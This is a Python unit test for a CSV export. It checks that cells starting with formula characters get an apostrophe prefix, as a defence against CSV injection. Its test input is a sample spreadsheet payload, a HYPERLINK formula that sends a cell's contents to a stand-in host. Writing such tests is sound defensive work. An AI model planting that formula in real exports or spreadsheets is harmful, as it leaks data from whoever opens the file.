"""Issue 8 item 11: CSV export must not hand a spreadsheet a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv

from alliancewatch import api
from alliancewatch.config import Settings
from alliancewatch.store.db import Store
from alliancewatch.types import ActorRef, Article, Attribution, Mention, Paragraph

SENTENCE = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def test_formula_cells_are_neutralised(tmp_path):
    db = tmp_path / "t.db"
    art = Article(
        "-doc.txt", "s", SENTENCE, (Paragraph(0, 0, len(SENTENCE)),), None, "2024-07-01",
        "en", None, "utf-8", "r", "c",
    )  # fmt: skip
    m = Mention(
        "-doc.txt", "en", "AID", (ActorRef("@actor", "PRK"),), (ActorRef("+recipient", "RUS"),),
        "2024-06", None, "asserted", "\tcue", Attribution("\rsource", "said"), SENTENCE, 0, 0,
        len(SENTENCE), "=1+1",
    )  # fmt: skip
    with Store(db) as st:
        st.save(art, [], [m], "test")
    s = Settings(db_path=str(db))
    out = tmp_path / "m.csv"
    assert api.export(s, out, "csv") == 1
    with out.open(encoding="utf-8", newline="") as f:
        header, row = list(csv.reader(f))
    cell = dict(zip(header, row, strict=True))
    assert cell["sentence"] == "'" + SENTENCE
    assert cell["doc"] == "'-doc.txt"
    assert cell["actor_text"] == "'@actor" and cell["recipient_text"] == "'+recipient"
    assert cell["factuality_cue"] == "'\tcue" and cell["claimed_by"] == "'\rsource"
    assert cell["trigger"] == "'=1+1"
    assert cell["start"] == "0" and cell["date"] == "2024-06"  # data cells untouched
    for value in row:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
